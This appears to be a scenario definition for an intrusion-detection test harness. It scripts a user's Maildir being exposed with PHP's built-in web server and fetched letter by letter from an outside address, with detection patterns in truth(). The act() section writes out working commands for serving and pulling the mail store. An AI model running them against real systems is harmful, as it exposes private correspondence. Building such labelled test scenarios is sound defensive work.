title="PHP's own web server stands over a Maildir, and a stranger fetches letter after letter"
what="Somebody with paula's login lists the letters of her Maildir into a file and starts php -S on port 8090 with the Maildir as its root, in the background. From 203.0.113.150 every letter is fetched. Nothing is copied, nothing connects out. Before, paula tried her own page with php -S and read mail with mutt."
host=mx1.example.org user=paula daemons="cron sshd" syslog_format=iso
people="paula renzo ops gina"
aliases='postmaster: root\nroot: ops\ninfo: gina\nabuse: root\n'
setup() { mkdir -p /home/paula/sito; echo '<?php echo "ciao";' > /home/paula/sito/index.php; chown -R paula: /home/paula/sito; }
act() {
  letters paula 18
  small_talk 2
  ssh_as paula <<'L'
cd sito
php -S 127.0.0.1:8000 >/dev/null 2>&1 &
%sleep 1
curl -s http://127.0.0.1:8000/index.php
kill %1
cd
%line mutt -f ~/Maildir
%sleep 2
%keys q
L
  ssh_as paula <<'L'
cd Maildir && find new cur -type f > .l.txt && cd
nohup php -S 0.0.0.0:8090 -t /home/paula/Maildir >/dev/null 2>&1 &
%sleep 1
L
  sleep 1
  outside sh -c "cd / && curl -s --interface 203.0.113.150 http://$host_ip:8090/.l.txt" > "$base/out/l.txt"
  note "index has $(wc -l < "$base/out/l.txt") lines"
  local f; while read -r f; do outside curl -s -o /dev/null --interface 203.0.113.150 "http://$host_ip:8090/$f" </dev/null; sleep 0.3; done < "$base/out/l.txt"
  small_talk 2
}
truth() {
  exec_step serve 'php.* -S 0.0.0.0:8090 -t /home/paula/Maildir' 'a server over the store'
  file_step read 'php.* openat:read NORMAL .*Maildir/(new|cur)/' 'it reads letters for whoever asks'
}
